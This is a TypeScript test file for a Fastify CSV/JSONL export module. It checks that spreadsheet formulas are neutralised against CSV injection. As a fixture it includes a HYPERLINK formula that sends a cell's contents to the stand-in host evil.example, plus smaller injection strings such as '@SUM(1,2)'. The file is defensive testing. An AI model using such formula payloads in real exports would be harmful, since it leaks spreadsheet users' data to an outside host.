import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import Fastify from 'fastify';
import { neutraliseFormula } from '../../../src/modules/analytics/index.js';
import { csvField } from '../../../src/modules/exports/csvEncoding.js';
import { exportRoutes } from '../../../src/modules/exports/exports.routes.js';
import { createTestDatabase, testBackends } from '../../support/database.js';
import { callers } from '../auth/scopeFixture.js';
import { insertExportScenario } from './exportScenario.js';

const hyperlink = '=HYPERLINK("http://evil.example/?"&A2,"点击")';

describe('CSV exports neutralise spreadsheet formulas (OWASP CSV injection)', () => {
  test('a cell starting with = + - @ tab or CR gets a leading quote; plain numbers stay', () => {
    for (const text of ['=1+1', '+1+1', '-1+2', '@SUM(A1)', '\tx', '\rx', '-', '+-1'])
      assert.equal(neutraliseFormula(text), `'${text}`, JSON.stringify(text));
    for (const text of ['-12.50', '+3', '12', 'a=b', ' =1', '', '中文'])
      assert.equal(neutraliseFormula(text), text, JSON.stringify(text));
    assert.equal(csvField(hyperlink), `"'=HYPERLINK(""http://evil.example/?""&A2,""点击"")"`);
    assert.equal(csvField(-12.5), '-12.5');
  });

  test('every backend and reading writes the same neutralised cells; JSON lines stay exact', async (t) => {
    for (const backend of await testBackends()) {
      const { db, dispose } = await createTestDatabase(backend);
      try {
        await insertExportScenario(db);
        await db.prisma.enterprise.updateMany({ data: { name: hyperlink, nameZh: '-12.50' } });
        await db.prisma.orgUnit.updateMany({ data: { name: '@SUM(1,2)', nameZh: '\t+cmd' } });
        for (const reading of db.sql.copyOut ? (['copy', 'pages'] as const) : (['pages'] as const)) {
          await t.test(`${backend}, ${reading}`, async () => {
            const app = Fastify();
            app.addHook('onRequest', async (request) => {
              request.viewer = callers.admin;
            });
            await app.register(exportRoutes, { db, pageSize: 1, reading });
            const csv = await app.inject({ method: 'GET', url: '/export/loan-facts.csv' });
            assert.equal(csv.statusCode, 200);
            const firstRow = csv.body.split('\r\n')[1] ?? '';
            assert.ok(firstRow.includes(`,"'=HYPERLINK(""http://evil.example/?""&A2,""点击"")",-12.50,`), firstRow);
            assert.ok(firstRow.includes(`,"'@SUM(1,2)",'\t+cmd,`), firstRow);
            // Numbers are numbers: the negative spread and the amounts are untouched.
            assert.ok(firstRow.includes(',-10,0.037500,'), firstRow);
            const jsonl = await app.inject({ method: 'GET', url: '/export/loan-facts.jsonl' });
            const row = JSON.parse(jsonl.body.split('\n')[0] ?? '');
            assert.equal(row.enterpriseName, hyperlink);
            assert.equal(row.orgUnitNameZh, '\t+cmd');
            await app.close();
          });
        }
      } finally {
        await dispose();
      }
    }
  });
});
